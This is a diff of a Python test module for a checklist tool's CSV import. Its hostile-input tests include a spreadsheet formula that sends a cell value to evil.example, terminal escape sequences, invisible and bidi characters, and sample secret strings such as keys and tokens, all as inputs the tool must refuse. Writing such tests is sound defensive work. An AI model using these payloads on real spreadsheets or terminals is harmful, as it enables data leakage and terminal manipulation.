@@ -1,58 +1,14 @@
-"""Tests for recording answers: `import`, `status`, and the answer and secret rules.
+"""Tests for recording answers: `import`, `items`, `status` and their refusals, run in-process.
 
-Run through test_checklist.py, which collects TESTS from here. Every refused import
-must exit non-zero, name the CSV line, and leave the checklist byte-for-byte unchanged.
+Every refused import must exit 1, name the CSV line, and leave the checklist byte-for-byte unchanged.
+The hostile cases (B1 to B16) follow the hostile-input review of 2026-12-06.
 """
 import csv
 import io
 import json
-import subprocess
-import sys
-import tempfile
-from pathlib import Path
+import os
 
-from test_checklist import FIXTURE, README, ROOT, cl, expect, run_cli, swap, unanswered
-
-TESTS = []
-PROGRAM = str(ROOT / "tools" / "checklist.py")
-
-
-def test(fn):
-    TESTS.append(fn)
-    return fn
-
-
-class Sandbox:
-    """A temporary folder holding a copy of a checklist, for imports that write."""
-
-    def __init__(self, text=FIXTURE):
-        self.tmp = tempfile.TemporaryDirectory()
-        self.dir = Path(self.tmp.name)
-        self.doc = self.dir / "README.md"
-        self.doc.write_text(text, encoding="utf-8")
-
-    def __enter__(self):
-        return self
-
-    def __exit__(self, *exc):
-        self.tmp.cleanup()
-
-    def csv(self, content, name="answers.csv"):
-        path = self.dir / name
-        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
-        return path
-
-    def run(self, *args):
-        return run_cli(*args, "--file", str(self.doc), cwd=self.dir)
-
-    def refused(self, content, message, *flags):
-        """Import `content`; it must fail, mention `message`, and change nothing."""
-        before = self.doc.read_bytes()
-        result = self.run("import", str(self.csv(content)), *flags)
-        assert result.returncode != 0, f"accepted: {result.stdout}"
-        assert message in result.stderr, f"{message!r} not in {result.stderr!r}"
-        assert self.doc.read_bytes() == before, "the checklist changed"
-        return result.stderr
+from support import FIXTURE, README, Sandbox, cl, run_main, swap, test, unanswered
 
 
 def refuse(content, message, text=FIXTURE):
@@ -60,124 +16,218 @@ def refuse(content, message, text=FIXTURE):
         return box.refused(content, message)
 
 
+def shipped_readme():
+    return unanswered(README.read_text(encoding="utf-8"))
+
+
 # ---------------------------------------------------------------- the round trip
 
 @test
 def round_trip_on_the_real_checklist():
-    with Sandbox(unanswered(README.read_text(encoding="utf-8"))) as box:
-        exported = box.run("items", "--format", "csv")
-        rows = list(csv.DictReader(io.StringIO(exported.stdout)))
+    with Sandbox(shipped_readme()) as box:
+        exported = box.run("items", "--format", "csv").stdout
+        lines = exported.split("\n", 1)
+        assert lines[0].lstrip('"').startswith("# Role: builder."), lines[0]
+        rows = list(csv.DictReader(io.StringIO(lines[1])))
         answers = {"LIC-1": "no", "REQ-3": "United States: development and laboratory test",
                    "REQ-7": "not needed: no Huawei product is in use"}
         for row in rows:
             row["answer"] = answers.get(row["id"], row["answer"])
         out = io.StringIO()
-        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
+        out.write(lines[0] + "\n")
+        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
         writer.writeheader()
         writer.writerows(rows)
-        result = box.run("import", str(box.csv(out.getvalue())))
-        assert result.returncode == 0, result.stderr
-        listed = json.loads(box.run("items", "--format", "json").stdout)
+        box.accepted(out.getvalue())
+        listed = json.loads(box.run("items", "--format", "json").stdout)["items"]
         assert not [r["id"] for r in listed if r["id"].startswith("DEL-")], "DEL items still listed"
         assert {r["id"]: r["answer"] for r in listed}["LIC-1"] == "`no`"
-        status = box.run("status").stdout
-        assert "LIC-1 `no`" in status and "| total | 2 | 1 |" in status, status
         states = {r["id"]: r["state"] for r in json.loads(box.run("status", "--format", "json").stdout)}
         assert states["REQ-3"] == "answered" and states["REQ-7"] == "not needed", states
         assert box.run("check").returncode == 0
-        again = box.run("import", str(box.csv(out.getvalue())))
+        again = box.run("import", box.csv(out.getvalue()))
         assert again.returncode == 0 and "nothing to record" in again.stdout, again
 
 
 @test
-def answers_in_a_csv_route_without_writing():
-    with Sandbox(unanswered(README.read_text(encoding="utf-8"))) as box:
+def untouched_exports_reimport_byte_identical():
+    import argparse
+    doc = cl.parse(shipped_readme())
+    for key in doc.profiles:
+        for party in [None] + doc.parties:
+            args = argparse.Namespace(profile=key, answers=None, party=party, involving=None, stage=None,
+                                      format="csv")
+            exported = cl.cmd_items(doc, args).text
+            rows, problems = cl.csv_rows(exported, ",")
+            changes, more = cl.plan_answers(doc, rows, replace=False)
+            assert not problems and not more and not changes, (key, party, problems, more, changes)
+    with Sandbox(shipped_readme()) as box:                # and once end to end, byte for byte
         before = box.doc.read_bytes()
-        answers = box.csv("id,answer\nLIC-1,no\nREQ-3,Canada\n")
-        listed = json.loads(box.run("items", "--answers", str(answers), "--format", "json").stdout)
+        result = box.run("import", box.csv(box.run("items", "--profile", "vendor", "--format", "csv").stdout))
+        assert result.returncode == 0 and "nothing to record" in result.stdout, result
+        assert box.doc.read_bytes() == before
+
+
+@test
+def assumptions_are_never_in_the_answer_column():
+    with Sandbox() as box:
+        exported = box.run("items", "--profile", "lab", "--format", "csv").stdout
+        rows = list(csv.DictReader(io.StringIO(exported.split("\n", 1)[1])))
+        assumed = {r["id"]: r["assumed"] for r in rows if r["assumed"]}
+        assert assumed["REQ-1"] == "`teaching` (profile lab)", assumed
+        assert not any(r["answer"] for r in rows)
+        md = box.run("items", "--profile", "lab").stdout
+        assert "**Assumed, not recorded:** `teaching` (profile lab)" in md, md
+
+
+@test
+def answers_in_a_csv_route_without_writing():
+    with Sandbox(shipped_readme()) as box:
+        before = box.doc.read_bytes()
+        answers = box.csv("id,answer\nLIC-1,no; public standards only\nREQ-3,Canada\n")
+        listed = json.loads(box.run("items", "--answers", answers, "--format", "json").stdout)["items"]
         assert not [r["id"] for r in listed if r["id"].startswith("DEL-")], "DEL items still listed"
+        lic1 = next(r for r in listed if r["id"] == "LIC-1")
+        assert lic1["assumed"].startswith("`no`; public standards only"), lic1
         states = {r["id"]: r["state"] for r in
-                  json.loads(box.run("status", "--answers", str(answers), "--format", "json").stdout)}
+                  json.loads(box.run("status", "--answers", answers, "--format", "json").stdout)}
         assert states["LIC-1"] == "answered" and states["REQ-3"] == "answered", states
-        bad = box.run("items", "--answers", str(box.csv("id,answer\nLIC-1,maybe\n", "bad.csv")))
-        assert bad.returncode != 0 and "bad.csv:2: 'maybe' is not an answer of LIC-1" in bad.stderr, bad
+        bad = box.run("items", "--answers", box.csv("id,answer\nLIC-1,maybe\n", "bad.csv"))
+        assert bad.returncode == 1 and "bad.csv:2: LIC-1: 'maybe' is not an answer of LIC-1" in bad.stderr, bad
         assert box.doc.read_bytes() == before, "the checklist changed"
+
+
+@test
+def a_profile_combines_with_ones_own_answers():
+    with Sandbox() as box:
+        mine = box.csv("id,answer\nLIC-1,yes\n")
+        listed = json.loads(box.run("items", "--profile", "lab", "--answers", mine, "--format", "json").stdout)
+        ids = {r["id"] for r in listed["items"]}
+        assert "LIC-2" in ids and "DEL-1" in ids and "DEL-2" not in ids, ids
+        assert "the answers in" in listed["answers"] and "profile `lab`" in listed["answers"]
+
+
+@test
+def the_role_heads_every_packet():
+    with Sandbox() as box:
+        md = box.run("items", "--profile", "vendor").stdout
+        assert "Your role: **maker**" in md and "**In your role:** the channels" in md, md
+        data = json.loads(box.run("items", "--profile", "vendor", "--format", "json").stdout)
+        assert data["role"] == "maker" and data["rule"] == "what the product must support"
+        first = box.run("items", "--profile", "vendor", "--format", "csv").stdout.split("\n", 1)[0]
+        assert first.lstrip('"').startswith("# Role: maker. Answer an item written for someone else with what the "
+                                            "product must support"), first
 
 
 @test
 def semicolons_bom_and_lower_case_ids_are_accepted():
     with Sandbox() as box:
-        result = box.run("import", str(box.csv(b"\xef\xbb\xbfID;Answer;Note\nlic-1;no;x\n")))
-        assert result.returncode == 0, result.stderr
-        assert "  - **Answer:** `no`" in box.doc.read_text(encoding="utf-8")
-        assert "- [x] <a id=\"lic-1\">" in box.doc.read_text(encoding="utf-8")
+        text = box.accepted(b"\xef\xbb\xbfID;Answer;Note\nlic-1;no;x\n")
+        assert "  - **Answer:** `no`" in text and '- [x] <a id="lic-1">' in text
 
 
 @test
 def routing_answer_with_parts_and_comment():
     with Sandbox() as box:
-        result = box.run("import", str(box.csv('id,answer\nREQ-2,"ap=build, radio=out; radios later"\n')))
-        assert result.returncode == 0, result.stderr
-        assert "  - **Answer:** `ap=build`, `radio=out`; radios later" in box.doc.read_text(encoding="utf-8")
+        text = box.accepted('id,answer\nREQ-2,"ap=build, radio=out; radios later"\n')
+        assert "  - **Answer:** `ap=build`, `radio=out`; radios later" in text
+
+
+@test
+def readme_examples_import_as_written():
+    with Sandbox(shipped_readme()) as box:
+        typed = box.accepted('id,answer\nREQ-1,"research, teaching"\nLIC-1,`no`; public standards only\n')
+        assert "**Answer:** `research`, `teaching`" in typed and "`no`; public standards only" in typed
+    with Sandbox(shipped_readme()) as box:
+        box.accepted(b'\xef\xbb\xbfid;answer\r\nREQ-3;"United States; development"\r\n')   # a spreadsheet's CSV
+    refuse("id,answer\nREQ-3,4 sites, 2 labs\n", "put the answer in quotes if it contains ','")
 
 
 @test
 def replace_overwrites_and_same_answer_is_a_no_op():
     with Sandbox() as box:
-        assert box.run("import", str(box.csv("id,answer\nLIC-1,no\n"))).returncode == 0
+        box.accepted("id,answer\nLIC-1,no\n")
         before = box.doc.read_bytes()
-        same = box.run("import", str(box.csv("id,answer\nLIC-1,no\n")))
+        same = box.run("import", box.csv("id,answer\nLIC-1,no\n"))
         assert same.returncode == 0 and box.doc.read_bytes() == before
         box.refused("id,answer\nLIC-1,yes\n", "answers.csv:2: LIC-1 already has a different answer")
-        result = box.run("import", str(box.csv("id,answer\nLIC-1,yes\n")), "--replace")
-        assert result.returncode == 0, result.stderr
-        text = box.doc.read_text(encoding="utf-8")
+        text = box.accepted("id,answer\nLIC-1,yes\n", "--replace")
         assert "**Answer:** `yes`" in text and "**Answer:** `no`" not in text
-
-
-@test
-def profile_export_seeds_the_routing_answers():
-    with Sandbox() as box:
-        exported = box.run("items", "--profile", "lab", "--format", "csv").stdout
-        seeded = {r["id"]: r["answer"] for r in csv.DictReader(io.StringIO(exported)) if r["assumed"]}
-        assert seeded == {"REQ-1": "teaching", "LIC-1": "no", "REQ-2": "ap=build, radio=out"}, seeded
-        result = box.run("import", str(box.csv(exported)))
-        assert result.returncode == 0, result.stderr
-        doc = cl.parse(box.doc.read_text(encoding="utf-8"))
-        assert doc.recorded_answers() == doc.profiles["lab"].assumes()
 
 
 @test
 def forgiving_spelling_and_outside_identifiers():
     with Sandbox() as box:
         body = ('id,answer\nREQ-1,Teaching\nREQ-2,"AP = build, radio=OUT"\n'
-                "REQ-3,memo REG-2026-03 and sha256:" + "ab" * 32 + "\n")
-        result = box.run("import", str(box.csv(body)))
-        assert result.returncode == 0, result.stderr
-        text = box.doc.read_text(encoding="utf-8")
+                "REQ-3,memo REG-2026-03 and sha256: " + "ab12" * 16 + "\n")
+        text = box.accepted(body)
         assert "**Answer:** `teaching`" in text and "**Answer:** `ap=build`, `radio=out`" in text
         assert box.run("check").returncode == 0
 
 
 @test
 def not_needed_is_not_a_routing_answer():
-    refuse("id,answer\nLIC-1,not needed: no licence\n", "LIC-1 is a routing item: answer with one of")
+    refuse("id,answer\nLIC-1,not needed: no licence\n", "LIC-1 is a routing item: answer with")
 
 
 @test
 def answer_to_an_item_that_does_not_apply_is_kept_with_a_note():
     with Sandbox() as box:
-        result = box.run("import", str(box.csv("id,answer\nLIC-1,no\nDEL-1,repository at example\n")))
+        result = box.run("import", box.csv("id,answer\nLIC-1,no\nDEL-1,repository at example\n"))
         assert result.returncode == 0 and "DEL-1 does not apply" in result.stdout, result
 
 
 @test
-def status_with_a_profile_and_without_answers():
+def status_suggests_only_items_that_apply():
     with Sandbox() as box:
         plain = box.run("status").stdout
         assert "Still to answer: REQ-1, REQ-2, LIC-1." in plain, plain
         routed = box.run("status", "--profile", "lab").stdout
         assert "given profile `lab`" in routed and "Still to answer: none." in routed, routed
+        assert "1. REQ-3:" in routed and "LIC-2" not in routed.split("## Next to answer")[1], routed
+
+
+@test
+def items_with_nothing_recorded_start_with_a_summary():
+    with Sandbox() as box:
+        text = box.run("items").stdout
+        out = text.split("\n")
+        assert out[4].startswith("Nothing is recorded yet: 8 items may apply"), out[:6]
+        assert "  - **Waits on:** LIC-1" in text, text
+
+
+@test
+def a_party_with_nothing_accountable_points_to_involving():
+    with Sandbox() as box:
+        out = box.run("items", "--profile", "lab", "--party", "licensor").stdout
+        assert "No item that applies is accountable to `licensor`, and none names it." in out, out
+        out = box.run("items", "--profile", "vendor", "--party", "licensor", "--stage", "plan")
+        assert "1 item names it as a contributor: use --involving licensor" in out.stdout, out
+
+
+@test
+def enquiry_clears_only_whether_the_offer_stands():
+    doc = cl.load(str(README))
+    base = dict(doc.profiles["vendor"].assumes)
+    base["EXP-1"] = ["enquiry"]
+    licensor = [r.item.id for r in cl.applicable(doc, base) if r.applies and r.item.party == "licensor"]
+    assert licensor == ["LIC-13"], licensor
+
+
+@test
+def profiles_show_prints_assumptions_and_first_items():
+    with Sandbox() as box:
+        out = box.run("profiles", "--show", "vendor").stdout
+        assert "- LIC-1 `yes`" in out and "1. REQ-3:" in out and "Role: **maker**" in out, out
+        listing = box.run("profiles").stdout
+        assert listing.startswith("lab       4 items  Teaching lab"), listing
+
+
+@test
+def stats_reports_words():
+    with Sandbox() as box:
+        data = json.loads(box.run("stats", "--format", "json").stdout)
+        assert data["items"] == 8 and data["item_max"] < 40, data
 
 
 # ---------------------------------------------------------------- bad input, nothing written
@@ -190,13 +240,13 @@ def not_utf8():
 @test
 def not_csv():
     refuse(b"PK\x03\x04\x00\x00binary", "answers.csv:1: not a CSV file")
-    refuse('[{"id": "LIC-1", "answer": "no"}]', "answers.csv:1: no 'id' or 'answer' column")
+    refuse('[{"id": "LIC-1", "answer": "no"}]', "no 'id' and 'answer' columns")
 
 
 @test
 def missing_columns():
-    refuse("id,reply\nLIC-1,no\n", "answers.csv:1: no 'answer' column")
-    refuse("", "answers.csv:1: no 'id' or 'answer' column")
+    refuse("id,reply\nLIC-1,no\n", "no 'id' and 'answer' columns")
+    refuse("", "no 'id' and 'answer' columns")
 
 
 @test
@@ -207,32 +257,31 @@ def unknown_and_repeated_ids():
 
 @test
 def undeclared_routing_answers():
-    refuse("id,answer\nLIC-1,maybe\n", "answers.csv:2: 'maybe' is not an answer of LIC-1")
-    refuse("id,answer\nLIC-1,\"yes, no\"\n", "answers.csv:2: LIC-1 takes exactly one answer")
+    refuse("id,answer\nLIC-1,maybe\n", "answers.csv:2: LIC-1: 'maybe' is not an answer of LIC-1")
+    refuse('id,answer\nLIC-1,"yes, no"\n', "answers.csv:2: LIC-1 takes exactly one answer")
     refuse("id,answer\nREQ-2,ap=build\n", "answers.csv:2: REQ-2: no value for part(s) radio")
-    refuse("id,answer\nREQ-2,\"ap=build, radio=out, wall=build\"\n", "'wall=build' is not a part=value pair")
+    refuse('id,answer\nREQ-2,"ap=build, radio=out, wall=build"\n', "'wall=build' is not part=value")
+    refuse("id,answer\nREQ-2,build\n", "REQ-2: 'build' is not part=value")
     refuse("id,answer\nLIC-1,no; see `memo`\n", "the comment after ';' may not contain backticks")
 
 
 @test
-def secret_looking_answers():
-    for value in ("K 000102030405060708090A0B0C0D0E0F", "-----BEGIN PRIVATE KEY-----",
-                  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7"):
-        message = refuse(f"id,answer\nREQ-3,{value}\n", "answers.csv:2: REQ-3: this looks like")
-        assert "confidential channel" in message, message
+def allowed_answers_are_listed_once():
+    message = refuse("id,answer\nLIC-1,maybe\n", "is not an answer of LIC-1")
+    assert "['yes', 'no', 'undecided']" in message, message
 
 
 @test
 def not_needed_without_reason():
     refuse("id,answer\nREQ-3,not needed\n", "answers.csv:2: REQ-3: 'not needed' must give its reason")
     with Sandbox() as box:
-        assert box.run("import", str(box.csv("id,answer\nREQ-3,Not needed: one site only\n"))).returncode == 0
+        box.accepted("id,answer\nREQ-3,Not needed: one site only\n")
 
 
 @test
 def answers_that_would_break_the_document():
-    refuse('id,answer\nREQ-3,"two\nlines"\n', "answers.csv:2: REQ-3: an answer must be one line")
-    refuse("id,answer\nREQ-3,- a bullet\n", "may not start with a list")
+    refuse('id,answer\nREQ-3,"two\nlines"\n', "answers.csv:2: REQ-3: the answer holds an invisible or control")
+    refuse("id,answer\nREQ-3,* a bullet\n", "may not start with a list")
     refuse("id,answer\nREQ-3,## heading\n", "may not start with a list")
     refuse("id,answer\nREQ-3,see <!-- hidden\n", "may not contain HTML")
     refuse("id,answer\nREQ-3,4 `sites\n", "unmatched backtick")
@@ -248,8 +297,7 @@ def extra_cells_and_repeated_header_names():
 @test
 def crlf_line_endings_are_kept():
     with Sandbox(FIXTURE.replace("\n", "\r\n")) as box:
-        result = box.run("import", str(box.csv("id,answer\nREQ-3,12 sites\n")))
-        assert result.returncode == 0, result.stderr
+        box.accepted("id,answer\nREQ-3,12 sites\n")
         raw = box.doc.read_bytes()
         assert raw.count(b"\n") == raw.count(b"\r\n") and b"**Answer:** 12 sites\r\n" in raw
 
@@ -262,20 +310,29 @@ def read_only_checklist_is_refused():
 
 
 @test
+def file_mode_is_kept():
+    with Sandbox() as box:
+        box.doc.chmod(0o640)
+        box.accepted("id,answer\nREQ-3,12 sites\n")
+        assert box.doc.stat().st_mode & 0o777 == 0o640
+
+
+@test
 def broken_quoting_is_named_by_line():
     refuse('id,answer\nREQ-3,4\nLIC-1,"no\n', "answers.csv:3: not valid CSV")
 
 
 @test
 def checklist_that_fails_its_check_is_not_touched():
-    refuse("id,answer\nLIC-1,no\n", "fails its own check", text=swap("4 of 8", "5 of 8"))
+    refuse("id,answer\nLIC-1,no\n", "fails its own check",
+           text=swap("| `lab` | Teaching lab | 4 |", "| `lab` | Teaching lab | 5 |"))
 
 
 @test
-def second_import_refuses_while_one_is_writing():
-    with Sandbox() as box:
-        (box.dir / ".README.md.lock").write_text("", encoding="utf-8")
-        box.refused("id,answer\nLIC-1,no\n", "another import is writing it")
+def checklist_that_is_not_utf8_is_a_clear_error():
+    with Sandbox(FIXTURE.encode("utf-8") + b"\xff\n") as box:
+        result = box.run("check")
+        assert result.returncode == 2 and "not UTF-8 text" in result.stderr, result
 
 
 @test
@@ -285,58 +342,160 @@ def change_during_import_is_refused():
         box.doc.write_bytes(original + b"\n")
         try:
             cl.write_atomically(box.doc, original, original.decode())
-        except SystemExit as e:
+        except cl.Refusal as e:
             assert "changed while importing" in str(e)
         else:
             raise AssertionError("a stale write was accepted")
         assert box.doc.read_bytes() == original + b"\n"
-        assert sorted(p.name for p in box.dir.iterdir()) == ["README.md"], "a temporary or lock file was left"
+        assert sorted(p.name for p in box.dir.iterdir()) == ["README.md"], "a temporary file was left"
+
+
+# ---------------------------------------------------------------- hostile input (review of 2026-12-06)
+
+@test
+def b01_spreadsheet_formulas_are_refused():
+    for value in ('"=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"', "+1 555", "-2 dB", "@SUM(A1)"):
+        refuse(f"id,answer\nREQ-3,{value}\n", "which a spreadsheet runs as a formula")
 
 
 @test
-def concurrent_imports_never_corrupt_the_file():
-    answers = {"a.csv": "id,answer\nREQ-3,12 sites\n", "b.csv": "id,answer\nLIC-1,no\n",
-               "c.csv": "id,answer\nREQ-1,teaching\n"}
-    for _ in range(3):
+def b01_exported_cells_never_start_a_formula():
+    text = swap("  - **Form:** a number.", "  - **Form:** =1+1")
+    with Sandbox(text) as box:
+        exported = box.run("items", "--format", "csv").stdout
+        assert ",'=1+1," in exported, exported
+
+
+@test
+def b02_secrets_in_other_encodings_are_refused():
+    key = "465b5ce8b199b49faa5f0a2ee238a6bc"
+    for value in ("465b 5ce8 b199 b49f aa5f 0a2e e238 a6bc", ":".join(key[k:k + 2] for k in range(0, 32, 2)),
+                  "K=Rltc6LGZtJ+qXwou4jimvA==", "OPc md5: " + key, "sha256: " + key,
+                  "key Rltc6LGZtJ-qXwou4jimvA_x9Tq", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig",
+                  "IZNVY2FRTG2J7KS7BIXOEOFGXQ4TK3A5", "-----begin private key-----"):
+        refuse(f'id,answer\nREQ-3,"{value}"\n', "this looks like")
+    refuse('id,answer\nREQ-3,"' + "\u200b".join(key) + '"\n', "invisible or control character")
+    assert cl.secret_in("\u200b".join(key))
+
+
+@test
+def b02_hashes_urls_and_identifiers_are_accepted():
+    with Sandbox() as box:
+        box.accepted("id,answer\nREQ-3,build sha256: " + "0a1b2c3d" * 8 + "\n")
+    for value in ("see https://github.com/PyCQA/flake8/blob/main/src/flake8/plugins/finder.py",
+                  "see docs/Release17/TS38331/Annex/ModuleA/Section5/Table2",
+                  "sent: <https://dms.example/doc/42>", "memo 123e4567-e89b-12d3-a456-426614174000",
+                  "a bad decade, 2026-12-06, 10.45.0.0/16"):
         with Sandbox() as box:
-            procs = {name: subprocess.Popen([sys.executable, PROGRAM, "import", str(box.csv(body, name)),
-                                             "--file", str(box.doc)], stdout=subprocess.PIPE,
-                                            stderr=subprocess.PIPE, text=True)
-                     for name, body in answers.items()}
-            results = {name: (p.wait(timeout=60), p.stderr.read()) for name, p in procs.items()}
-            text = box.doc.read_text(encoding="utf-8")
-            assert cl.check(cl.parse(text)) == [], "the file no longer checks clean"
-            expected = {"a.csv": "**Answer:** 12 sites", "b.csv": "**Answer:** `no`",
-                        "c.csv": "**Answer:** `teaching`"}
-            for name, (code, err) in results.items():
-                assert (expected[name] in text) == (code == 0), (name, code, err)
-                if code:
-                    assert "nothing written" in err, err
-            assert sorted(p.name for p in box.dir.iterdir()) == ["README.md", *sorted(answers)]
-
-
-# ---------------------------------------------------------------- the check on recorded answers
-
-TICKED_REQ3 = "- [x] <a id=\"req-3\"></a>**REQ-3**"
+            box.accepted(f'id,answer\nREQ-3,"{value}"\n')
 
 
 @test
-def ticked_box_without_answer():
-    expect(swap("- [ ] <a id=\"req-3\"></a>**REQ-3**", TICKED_REQ3), "answer", "**REQ-3**")
+def b03_long_answers_are_capped_and_checked_in_linear_time():
+    import time
+    refuse("id,answer\nREQ-3," + "[" * 100000 + "\n", "longer than 2,000 characters")
+    started = time.perf_counter()
+    line = "x " + "[" * 200000
+    assert cl.LINK.findall(line) == [] and cl.secret_in(line) is None
+    assert time.perf_counter() - started < 1.0
 
 
 @test
-def answer_without_ticked_box():
-    expect(swap("  - **Form:** a number.", "  - **Form:** a number.\n  - **Answer:** 12"), "answer", "**REQ-3**")
+def b04_terminal_escapes_are_not_echoed():
+    message = refuse("id,answer\n\x1b]0;pwned\x07\x1b[2JREQ-3,x\n", "is not an item")
+    assert "\x1b" not in message and "\\u001b" in message, repr(message)
 
 
 @test
-def not_needed_without_reason_in_the_file():
-    text = swap("- [ ] <a id=\"req-3\"></a>**REQ-3**", TICKED_REQ3)
-    text = swap("  - **Form:** a number.", "  - **Form:** a number.\n  - **Answer:** not needed", text)
-    expect(text, "answer", "**Answer:** not needed")
+def b05_misindented_answer_lines_are_seen():
+    text = swap("  - **Form:** a number.", "  - **Form:** a number.\n   - **Answer:** Germany")
+    assert [d.code for d in cl.run_rules(cl.parse(text))] == ["item-format"]
 
 
 @test
-def secret_written_by_hand():
-    expect(swap("a lab plan.", "a lab plan, key 000102030405060708090a0b0c0d0e0f."), "secret", "a lab plan, key")
+def b06_not_needed_spellings_need_a_reason():
+    for value in ("not  needed", "not-needed", "\uff2e\uff2f\uff34 \uff2e\uff25\uff25\uff24\uff25\uff24"):
+        refuse(f"id,answer\nREQ-3,{value}\n", "must give its reason")
+    refuse("id,answer\nREQ-3,not needed\u200b\u200b\u200b\n", "invisible or control character")
+
+
+@test
+def b08_invisible_and_bidi_characters_are_refused():
+    for char in ("\u200b", "\ufeff", "\u202e", "\u009b", "\u0085", "\u2028"):
+        refuse(f"id,answer\nREQ-3,4{char}sites\n", "invisible or control character")
+
+
+@test
+def b09_a_dead_import_leaves_no_lock_behind():
+    with Sandbox() as box:
+        (box.dir / ".README.md.lock").write_text("123", encoding="utf-8")   # an old-style lock file
+        box.accepted("id,answer\nREQ-3,12 sites\n")
+
+
+@test
+def b09_a_held_lock_makes_a_second_import_refuse():
+    if cl.fcntl is None:
+        return
+    with Sandbox() as box:
+        with open(box.doc, "rb") as held:
+            cl.fcntl.flock(held, cl.fcntl.LOCK_EX)
+            pid = os.fork()
+            if pid == 0:                                   # the child holds nothing; it tries to import
+                result = box.run("import", box.csv("id,answer\nREQ-3,12\n"))
+                os._exit(0 if result.returncode == 1 and "another import" in result.stderr else 1)
+            _, status = os.waitpid(pid, 0)
+        assert status == 0, "the second import did not refuse"
+
+
+@test
+def b10_void_items_refuse_answers():
+    refuse("id,answer\nREQ-5,Cisco WLC 5520\n", "REQ-5 is withdrawn (void)")
+
+
+@test
+def b11_ids_must_be_ascii():
+    refuse("id,answer\nl\u0131c-1,no\n", "is not an item")
+
+
+@test
+def b13_one_crlf_line_does_not_convert_the_file():
+    text = FIXTURE.replace("- [ ] <a id=\"req-3\"></a>**REQ-3** The number of sites.\n",
+                           "- [ ] <a id=\"req-3\"></a>**REQ-3** The number of sites.\r\n")
+    with Sandbox(text) as box:
+        box.accepted("id,answer\nREQ-1,teaching\n")
+        raw = box.doc.read_bytes()
+        assert raw.count(b"\r\n") == 1, raw.count(b"\r\n")
+
+
+@test
+def b14_repeated_tokens_are_refused():
+    refuse('id,answer\nREQ-1,"teaching, teaching"\n', "'teaching' is given twice")
+
+
+@test
+def b15_only_regular_files_and_pipes_are_read():
+    with Sandbox() as box:
+        result = box.run("import", "/dev/zero")
+        assert result.returncode == 1 and "not a regular file" in result.stderr, result
+        big = box.csv(b"id,answer\n" + b"x" * (cl.MAX_CSV_BYTES + 1))
+        result = box.run("import", big)
+        assert result.returncode == 1 and "larger than 16 MiB" in result.stderr, result
+
+
+@test
+def b16_the_delimiter_is_the_one_whose_header_has_both_columns():
+    with Sandbox() as box:
+        box.accepted('id,answer,"a;b;c;d"\nREQ-3,Germany,x\n')
+
+
+@test
+def many_problems_are_summarised():
+    body = "id,answer\n" + "".join(f"NOPE-{k},x\n" for k in range(1, 80))
+    message = refuse(body, "and 29 more problems")
+    assert message.count("\n") < 60
+
+
+@test
+def unreadable_csv_is_refused():
+    result = run_main("import", "no-such.csv", "--file", README)
+    assert result.returncode == 1 and "no-such.csv: cannot read" in result.stderr, result
